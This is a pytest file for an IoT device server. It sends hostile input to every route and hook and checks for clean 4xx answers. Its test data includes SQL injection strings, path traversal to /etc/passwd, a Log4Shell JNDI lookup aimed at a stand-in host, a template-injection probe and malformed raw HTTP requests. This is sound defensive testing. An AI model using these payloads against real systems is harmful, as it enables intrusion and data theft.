"""Hostile input (issue 8): oversized bodies and query strings, deep JSON, wrong content
types, Unicode, NUL and SQL-looking strings in every field, query and path parameter.

The answer is always a clear 4xx (or the broker hook's own deny), never a 5xx and never
HTML; the database is unchanged, except where a request was entitled to store a value,
which must then be stored verbatim. Every route comes from the app's URL map, so a new
route is covered without editing this file.
"""

from __future__ import annotations

import itertools
import json
import socket

import pytest
import requests
from conftest import MASTER_SECRET, MQTT_SECRET, config_for
from reliability_kit import figure, running_workers
from sqlalchemy import select

from iot_server import tokens
from iot_server.extensions import db
from iot_server.models import Device, Owner

HOOK_BEARER = {"Authorization": f"Bearer {MQTT_SECRET}"}
PASSWORD = "correct horse battery"

#: Text an attacker or a broken firmware may put in any string field.
HOSTILE_TEXT = [
    "",
    "\x00",
    "dev\x00ice",
    "\ud800",  # a lone surrogate: valid JSON (escaped), not encodable as UTF-8
    "\udfff\ud800",
    "é✓😀 名前",
    "\u202eevil\u202c",
    "\uff11\uff12\uff13",  # fullwidth digits
    "\u0130\u212a",  # letters whose lowercase is ASCII
    "line\nbreak\r\ttab\x7f\x1b[31m",
    "x" * 5000,
    "' OR '1'='1' --",
    "'; DROP TABLE devices; --",
    '" OR ""="',
    "%_\\%",
    "device/+/ping",
    "device/#",
    "$SYS/broker",
    "../../etc/passwd",
    "${jndi:ldap://198.51.100.1/x}",
    "{{7*7}}",
]
#: Values of the wrong JSON type.
WRONG_TYPES = [None, 0, -1, 1.5, 10**30, True, [], ["a"], {}, {"$ne": ""}]
HOSTILE_VALUES = HOSTILE_TEXT + WRONG_TYPES


@pytest.fixture
def app_config(database) -> dict:
    """No rate limit gets in the way of a thousand hostile requests."""
    return config_for(
        database, RATELIMIT_AUTH="1000000 per minute", RATELIMIT_DEFAULT="1000000 per minute"
    )


@pytest.fixture
def target(app, client, devices) -> dict:
    """Alice, her master (logged in to the broker as `esp-1`) with an agent, and tokens."""
    devices.owner("alice", PASSWORD)
    master = devices.master(owner="alice")
    agent = devices.agent(master)
    with app.app_context():
        alice = db.session.execute(select(Owner).filter_by(username="alice")).scalar_one()
        owner_token = tokens.issue_owner_token(alice)
    device_token = devices.token(master)
    login = {"username": f"device_{master}", "password": device_token, "clientid": "esp-1"}
    assert client.post("/mosquitto/user", json=login).status_code == 200
    return {
        "master": master,
        "agent": agent,
        "owner_token": owner_token,
        "device_token": device_token,
        "login": login,
    }


def rows(app) -> dict[tuple, dict]:
    """Every row of every table, keyed by (table, primary key)."""
    found = {}
    with app.app_context():
        for model in (Owner, Device):
            table = model.__table__
            for row in db.session.execute(select(table)).mappings():
                key = (table.name, *(row[c.name] for c in table.primary_key.columns))
                found[key] = dict(row)
        db.session.rollback()
    return found


def stray_changes(before: dict, after: dict, sent: dict | None) -> list:
    """Changes other than a value of the `sent` body stored verbatim."""
    values = list((sent or {}).values())
    sent = [*values, *(v.lower() for v in values if isinstance(v, str))]
    stray = []
    for key in before.keys() - after.keys():
        stray.append(("deleted", key))
    for key in after.keys() - before.keys():
        if key[0] != "owners" or after[key]["username"] not in sent:
            stray.append(("added", key, after[key]))
    for key in before.keys() & after.keys():
        for column, old in before[key].items():
            new = after[key][column]
            if new != old and column != "updated_at" and new not in sent:
                stray.append(("changed", key, column, old, new))
    return stray


# ---------------------------------------------------------------- every field


def field_routes(t: dict) -> dict[str, tuple[str, str, dict, dict, set[str]]]:
    """Every route that reads body fields: method, path, a valid body, headers, and the
    fields whose hostile values may legitimately be accepted (stored verbatim or ignored)."""
    login = t["login"]
    topic = f"device/{t['master']}/ping"
    owner = {"Authorization": f"Bearer {t['owner_token']}"}
    return {
        "register": (
            "POST",
            "/auth/users/register",
            {"username": "newcomer", "password": PASSWORD},
            {},
            {"password"},
        ),
        "login": (
            "POST",
            "/auth/users/login",
            {"username": "alice", "password": PASSWORD},
            {},
            set(),
        ),
        "rename": ("PATCH", f"/devices/{t['master']}", {"name": "kitchen"}, owner, {"name"}),
        "emqx_authn": (
            "POST",
            "/emqx/authn",
            {**login, "peerhost": "10.0.0.1"},
            HOOK_BEARER,
            {"peerhost", "clientid"},
        ),
        "seed_authn": ("POST", "/mqtt/auth", {**login, "token": MQTT_SECRET}, {}, {"clientid"}),
        "emqx_authz": (
            "POST",
            "/emqx/authz",
            {"username": login["username"], "clientid": "esp-1", "topic": topic}
            | {"action": "publish", "qos": "1", "retain": "false"},
            HOOK_BEARER,
            {"qos", "retain"},
        ),
        "mosquitto_user": ("POST", "/mosquitto/user", login, {}, {"clientid"}),
        "mosquitto_acl": (
            "POST",
            "/mosquitto/acl",
            {"username": login["username"], "clientid": "esp-1", "topic": topic, "acc": 2},
            {},
            set(),
        ),
        "mosquitto_superuser": ("POST", "/mosquitto/superuser", {"username": "x"}, {}, set()),
    }


def is_yes(response) -> bool:
    """The route granted or stored something."""
    body = response.get_json(silent=True) or {}
    return (
        200 <= response.status_code < 300
        and body.get("c", "OK") == "OK"
        and body.get("result", "allow") == "allow"
        and body.get("ok", True) is True
    )


def clear_answer(response) -> bool:
    """JSON in the route's shape, not a 5xx, no trace."""
    body = response.get_json(silent=True)
    return (
        response.status_code < 500
        and isinstance(body, dict)
        and ({"c", "result", "ok"} & body.keys())
        and "Traceback" not in response.get_data(as_text=True)
    )


#: Hostile-looking values a route rightly accepts: no `token` in the seed hook's body is
#: like no header, and the caller is on the trusted loopback.
LEGIT_YES = {("seed_authn", "token", None)}

ROUTE_NAMES = [
    "register",
    "login",
    "rename",
    "emqx_authn",
    "seed_authn",
    "emqx_authz",
    "mosquitto_user",
    "mosquitto_acl",
    "mosquitto_superuser",
]


@pytest.mark.parametrize("route", ROUTE_NAMES)
def test_hostile_values_in_every_field(app, client, target, route):
    """Each hostile value in each field: a clear answer, refused unless the field may hold
    any text (then stored verbatim), and no other change to the database."""
    method, path, valid, headers, lenient = field_routes(target)[route]
    assert clear_answer(client.open(path, method=method, json=valid, headers=headers))
    cases = 0
    for field, value in itertools.product(valid, HOSTILE_VALUES):
        before = rows(app)
        sent = {**valid, field: value}
        body = json.dumps(sent)  # lone surrogates go as \\ud800 escapes
        response = client.open(
            path, method=method, data=body, content_type="application/json", headers=headers
        )
        case = (route, field, repr(value)[:40], response.status_code, response.get_json())
        assert clear_answer(response), case
        if is_yes(response):
            assert field in lenient or (route, field, value) in LEGIT_YES, case
        assert not stray_changes(before, rows(app), sent), case
        cases += 1
    figure(f"hostile_fields_{route}", cases=cases)


# ---------------------------------------------------------------- query strings and paths


RAW_VALUES = [
    "%00",
    "%ff%fe",
    "%zz",
    "%C0%AF",
    "%E2%80%AE",
    "%F0%9F%98%80",
    "'%20OR%20'1'%3D'1",
    "1;DROP%20TABLE%20devices",
    "..%2F..%2Fetc%2Fpasswd",
    "%2e%2e",
    "a" * 8000,
    "{00000000-0000-0000-0000-000000000000}",
    "urn:uuid:00000000-0000-0000-0000-000000000000",
    "00000000000000000000000000000000",
    "00000000-0000-0000-0000-00000000000%00",
    "%EF%BC%90" * 8 + "-0000-0000-0000-000000000000",
]


def test_hostile_query_strings_on_registration(app, client):
    """The registration uuid, hostile: 400 BAD_REQUEST, no device created."""
    before = rows(app)
    for raw in RAW_VALUES:
        response = client.get(
            f"/auth/devices/request?uuid={raw}",
            headers={"Authorization": f"Bearer {MASTER_SECRET}"},
        )
        assert (response.status_code, response.get_json()["c"]) == (400, "BAD_REQUEST"), raw
    assert rows(app) == before


def routes_with_methods(app) -> list[tuple[str, str]]:
    """Every (method, rule) of the JSON APIs and hooks (the console's HTML pages have
    their own hostile-input tests in tests/console/test_pages.py)."""
    return sorted(
        (method, rule.rule)
        for rule in app.url_map.iter_rules()
        if rule.endpoint != "static"
        and not rule.endpoint.startswith("console.")
        and rule.endpoint != "front_page"
        for method in rule.methods - {"HEAD", "OPTIONS"}
    )


def test_hostile_path_parameters_on_every_route(app, client, target):
    """Every route with a path parameter, each hostile segment in turn: a clear 4xx and
    nothing changed, with a valid owner token (so the parameter itself is judged)."""
    headers = {"Authorization": f"Bearer {target['owner_token']}"}
    before = rows(app)
    cases = 0
    for method, rule in routes_with_methods(app):
        if "<" not in rule:
            continue
        for raw in RAW_VALUES:
            for slot in range(rule.count("<")):
                parts = rule.split("<")
                path = parts[0]
                for index, part in enumerate(parts[1:]):
                    name, rest = part.split(">", 1)
                    path += (raw if index == slot else target["master"]) + rest
                response = client.open(path, method=method, json={"name": "x"}, headers=headers)
                assert 400 <= response.status_code < 500, (method, path[:80], response.status_code)
                assert clear_answer(response), (method, path[:80])
                cases += 1
    assert rows(app) == before
    figure("hostile_paths", cases=cases)


# ---------------------------------------------------------------- whole bodies


MULTIPART = (
    b'--b0undary\r\nContent-Disposition: form-data; name="username"\r\n\r\nalice\r\n'
    b'--b0undary\r\nContent-Disposition: form-data; name="f"; filename="x.bin"\r\n'
    b"Content-Type: application/octet-stream\r\n\r\n\x00\x01\x02\r\n--b0undary--\r\n"
)
BODIES = {
    "oversized": (b'{"username":"' + b"x" * 70_000 + b'"}', "application/json"),
    "deep array": (b"[" * 60_000, "application/json"),
    "deep object": (b'{"a":' * 12_000, "application/json"),
    "xml entity": (
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>",
        "application/xml",
    ),
    "text": (b"username=alice&password=x", "text/plain"),
    "form with NUL": (
        b"username=%00&password=%ff&clientid=%00&topic=%00&acc=9",
        "application/x-www-form-urlencoded",
    ),
    "multipart with file": (MULTIPART, "multipart/form-data; boundary=b0undary"),
    "multipart without boundary": (b"--x\r\n", "multipart/form-data"),
    "invalid UTF-8": (b'{"username":"\xff\xfe\xc0\xaf"}', "application/json"),
    "UTF-16": ('{"username":"alice"}'.encode("utf-16"), "application/json; charset=utf-16"),
    "huge number": (b'{"acc": 1' + b"0" * 5000 + b"}", "application/json"),
    "NaN and Infinity": (b'{"acc": NaN, "qos": Infinity, "name": -Infinity}', "application/json"),
    "duplicate keys": (b'{"name": "a", "name": null, "acc": 1, "acc": "x"}', "application/json"),
    "null": (b"null", "application/json"),
    "array": (b'["username"]', "application/json"),
    "string": (b'"username"', "application/json"),
    "empty": (b"", "application/json"),
    "binary": (bytes(range(256)) * 4, "application/octet-stream"),
    "no content type": (b'{"username": "alice"}', None),
    "content type garbage": (b"{}", "\x00/\xff;;;charset=nope"),
}


def documents(app) -> set[str]:
    """Routes that serve a document, not an API answer (/metrics, the API description)."""
    return {
        rule.rule
        for rule in app.url_map.iter_rules()
        if rule.endpoint.startswith("openapi.") or rule.endpoint == "health.prometheus_metrics"
    }


#: Routes whose every call changes data whatever the body (the body is never read there).
BODY_IGNORED_ACTIONS = {
    "DELETE /devices/<uuid>/claim",
    "POST /devices/<uuid>/revoke",
    "DELETE /devices/<master>/agents/<agent>",
}


@pytest.mark.parametrize("kind", sorted(BODIES))
def test_hostile_bodies_on_every_route(app, client, target, kind):
    """Each hostile body on every route and method, with valid credentials: a clear answer,
    never a 5xx, and nothing stored."""
    data, content_type = BODIES[kind]
    credentials = {
        "/auth/devices/request": f"Bearer {MASTER_SECRET}",
        "/mqtt": f"Bearer {target['device_token']}",
        "/devices": f"Bearer {target['owner_token']}",
        "/emqx": f"Bearer {MQTT_SECRET}",
    }
    cases = 0
    for method, rule in routes_with_methods(app):
        if f"{method} {rule}" in BODY_IGNORED_ACTIONS:
            continue
        path = rule.replace("<uuid>", target["master"]).replace("<master>", target["master"])
        path = path.replace("<agent>", target["agent"]) + "?uuid=" + target["master"]
        auth = next((v for k, v in credentials.items() if rule.startswith(k)), None)
        before = rows(app)
        response = client.open(
            path,
            method=method,
            data=data,
            headers={"Authorization": auth, "Content-Type": content_type}
            if auth
            else {"Content-Type": content_type},
        )
        case = (kind, method, rule, response.status_code, response.get_data()[:120])
        assert response.status_code < 500, case
        if rule not in documents(app) or response.status_code != 200:
            assert clear_answer(response), case
        if kind == "oversized":
            assert response.status_code == 413, case
        assert not stray_changes(before, rows(app), None), case
        cases += 1
    figure(f"hostile_body_{kind.replace(' ', '_')}", cases=cases)


# ---------------------------------------------------------------- gunicorn: the wire


def raw_exchange(port: int, request: bytes) -> bytes:
    """Send raw bytes to the server and read its whole answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(request)
        sock.shutdown(socket.SHUT_WR)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


def chunked(body: bytes) -> bytes:
    """`body` in HTTP/1.1 chunked encoding."""
    return (
        b"".join(
            b"%x\r\n%s\r\n" % (len(body[i : i + 4096]), body[i : i + 4096])
            for i in range(0, len(body), 4096)
        )
        + b"0\r\n\r\n"
    )


POST = b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
WIRE = {
    "request line over the limit": b"GET /auth/devices/request?uuid="
    + b"a" * 10_000
    + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "too many headers": b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"X-A: b\r\n" * 200 + b"\r\n",
    "header over the limit": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: "
    + b"b" * 9000
    + b"\r\n\r\n",
    "NUL in a header": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\n\r\n",
    "NUL in the path": b"GET /devices/\x00 HTTP/1.1\r\nHost: x\r\n\r\n",
    "UTF-8 in the path": "GET /devices/é😀 HTTP/1.1\r\nHost: x\r\n\r\n".encode(),
    "invalid method": b"G\x01T / HTTP/1.1\r\nHost: x\r\n\r\n",
    "negative Content-Length": POST % b"/emqx/authn" + b"Content-Length: -1\r\n\r\n",
    "non-numeric Content-Length": POST % b"/emqx/authn" + b"Content-Length: ab\r\n\r\n",
    "two Content-Lengths": POST % b"/emqx/authn"
    + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}",
    "chunked body over 64 KB": POST % b"/emqx/authn"
    + b"Transfer-Encoding: chunked\r\n\r\n"
    + chunked(b'{"a":"' + b"x" * 70_000 + b'"}'),
    "body over 64 KB": POST % b"/auth/users/login"
    + b"Content-Length: 70000\r\n\r\n"
    + b"x" * 70_000,
    "HTTP/0.9": b"GET /\r\n\r\n",
    "garbage": bytes(range(1, 256)) + b"\r\n\r\n",
    "deep JSON": POST % b"/mosquitto/acl" + b"Content-Length: 60000\r\n\r\n" + b"[" * 60_000,
}


@pytest.mark.slow
def test_hostile_requests_on_the_wire_get_json_4xx_from_gunicorn(start_gunicorn):
    """What gunicorn itself rejects, and what reaches the app, over raw sockets: a JSON 4xx
    every time, no HTML, and the same workers serving afterwards."""
    server = start_gunicorn(workers=2)
    workers = running_workers(server, 2)
    for name, request in WIRE.items():
        answer = raw_exchange(server.port, request)
        head, _, body = answer.partition(b"\r\n\r\n")
        status = int(head.split(b" ", 2)[1]) if head.startswith(b"HTTP/1.") else 0
        case = (name, head[:200], body[:200])
        assert 400 <= status < 500, case
        assert b"<html" not in answer.lower(), case
        assert {"c", "result", "ok"} & json.loads(body).keys(), case
    assert requests.get(server.url + "/healthz", timeout=5).status_code == 200
    assert server.worker_pids() == workers
    errors = [r for r in server.records() if r.get("level") in ("ERROR", "CRITICAL")]
    assert not errors, errors[:3]
    figure("hostile_wire", cases=len(WIRE), status_5xx=0)
